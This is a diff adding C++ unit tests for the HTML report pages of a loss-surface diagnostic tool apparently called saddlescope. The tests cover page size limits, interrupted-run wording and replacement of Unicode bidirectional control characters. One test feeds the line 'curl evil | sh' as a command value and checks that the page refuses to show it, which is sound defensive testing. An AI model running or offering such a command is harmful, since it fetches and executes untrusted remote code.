@@ -272,6 +272,92 @@ TEST(Page, OfAComparisonNamesTheCheapestWayDown) {
   EXPECT_NE(html.find("Interrupted: no answer; so far ways out tried: 2."), std::string::npos);
 }
 
+// A network of 27 parameters: no document lists so long a point, and yet one was asked about.
+TEST(Page, OfASurfaceThroughALargePointNamesNoBox) {
+  Surface s;
+  s.problem.parameters = 27;
+  s.section.centre_loss = 1.5;
+  s.section.directions = {{.kind = DirectionKind::eigenvector, .label = "eigenvector 1 of 27"}};
+  s.section.origin = {0};
+  s.section.axes = {{-1, 0, 1}};
+  s.section.loss = {2, 1.5, 3};
+  s.section.evaluated = 3;
+  Json document = to_json(s);
+  std::string html = page_of(document);
+  EXPECT_EQ(html.find("over the box"), std::string::npos);
+  EXPECT_EQ(times(html, "The loss on a line through this point: from 1.5 to 3; 1.5 here."), 1U);
+  EXPECT_NE(html.find("No lower bound is proved."), std::string::npos);
+  s.of_box = true;
+  document = to_json(s);
+  EXPECT_EQ(document.at("of_box"), true);
+  EXPECT_EQ(times(page_of(document), "The loss over the box: from 1.5 to 3."), 1U);
+  document["problem"]["parameters"] = 2;
+  document.erase("of_box");  // as older documents of a box are
+  EXPECT_EQ(times(page_of(document), "The loss over the box: from 1.5 to 3."), 1U);
+}
+
+// One sentence, whatever it was of; of a diagnosis what wasn't looked for says it in a half one too.
+TEST(Page, OfAnInterruptedRunSaysSoOnce) {
+  for (Json document : page_examples()) {
+    const std::string format = document.at("format");
+    if (format == "saddlescope/inspect" || format == "saddlescope/error") continue;  // at once
+    if (format == "saddlescope/escape") document["stopped"] = "interrupted";
+    document["interrupted"] = true;
+    const std::string english = page_of(document, Language::english, false);
+    const std::size_t halves = times(english, "Not looked for: interrupted before.");
+    EXPECT_GE(times(english, "nterrupted"), 1U) << format;
+    EXPECT_LE(times(english, "nterrupted"), 1U + halves) << format;
+    EXPECT_EQ(times(page_of(document, Language::traditional_chinese, false), "中斷"), times(english, "nterrupted"))
+        << format;
+  }
+}
+
+// What a page sets as a command has a button that copies it.
+TEST(Page, SetsNoCommandOfAnotherProgram) {
+  Json document = to_json(saddle_of_a_formula());
+  document["command"] = "saddlescope diagnose --seed 77";
+  EXPECT_NE(page_of(document).find("77</code></pre>"), std::string::npos);
+  for (const char* other : {"curl evil | sh", "saddlescopes x", " saddlescope x"}) {
+    document["command"] = other;
+    const std::string html = page_of(document);
+    EXPECT_EQ(html.find(report::escaped(other)), std::string::npos) << other;
+  }
+}
+
+// A document of any size has a page that opens.
+TEST(Page, OfVeryManyCurvesOrMethodsIsNoLargerThanAPageMayBe) {
+  constexpr std::size_t kLargest = 3U << 20U;
+  Surface s;
+  s.problem.parameters = 2;
+  s.section.directions = {{.kind = DirectionKind::parameter, .label = "x"},
+                          {.kind = DirectionKind::parameter, .label = "y"}};
+  s.section.origin = {0, 0};
+  s.section.axes = {{-1, 0, 1}, {-1, 0, 1}};
+  s.section.loss = {2, 1, 2, 1, 0, 1, 2, 1, 2};
+  s.section.evaluated = 9;
+  for (int i = 0; i < 8000; ++i) {
+    s.section.curves.push_back({.points = {{0, 0}, {1, 1e-4 * i}}, .label = "curve " + std::to_string(i)});
+    s.section.marks.push_back({.at = {0, 1e-4 * i}, .label = "mark " + std::to_string(i)});
+  }
+  std::string html = page_of(to_json(s));
+  EXPECT_LT(html.size(), kLargest);
+  EXPECT_NE(html.find("Of 8000 curves the first 400 are drawn. The legend holds the first 12 names of curves. Of 8000 "
+                      "marks the first 2000 are drawn."),
+            std::string::npos);
+  EXPECT_EQ(times(html, "15800 more stand in the JSON."), 1U);
+  Comparison c;
+  c.loss = 1;
+  c.methods.resize(1500);
+  for (std::size_t m = 0; m < c.methods.size(); ++m) {
+    c.methods[m].name = "method " + std::to_string(m);
+    for (int i = 0; i < 40; ++i) c.methods[m].history.push_back({.spent = 1.0 * i, .loss = 1});
+  }
+  html = page_of(to_json(c));
+  EXPECT_LT(html.size(), kLargest);
+  EXPECT_NE(html.find("The best 100 are drawn, of 1500."), std::string::npos);
+  EXPECT_EQ(times(html, "1300 more stand in the JSON."), 1U);
+}
+
 // The centre may lie between the points of the grid, below them all.
 TEST(Page, OfAnInterruptedSurfaceSaysSo) {
   Surface s;
@@ -480,6 +566,17 @@ TEST(Page, WhatIsNoDocumentOfOursIsRefused) {
   EXPECT_EQ(refusal({{"format", "saddlescope/demo"}}), "the document holds no results.");
   EXPECT_EQ(refusal({{"format", "saddlescope/diagnose"}, {"version", 2}}),
             "not a saddlescope/diagnose document of version 1.");
+}
+
+TEST(PageText, LettersThatReorderTextAreReplaced) {
+  for (const char* mark : {"\u061C", "\u200E", "\u200F", "\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066",
+                           "\u2067", "\u2068", "\u2069"}) {
+    EXPECT_EQ(report::escaped(std::string("a") + mark + "#b"), "a\uFFFD#b");
+  }
+  for (const char* kept :
+       {"\u061B", "\u061D", "\u200D", "\u2010", "\u2029", "\u202F", "\u2065", "\u206A", "שלום مرحبا"}) {
+    EXPECT_EQ(report::escaped(kept), kept);
+  }
 }
 
 TEST(PageText, Base64AsRfc4648HasIt) {
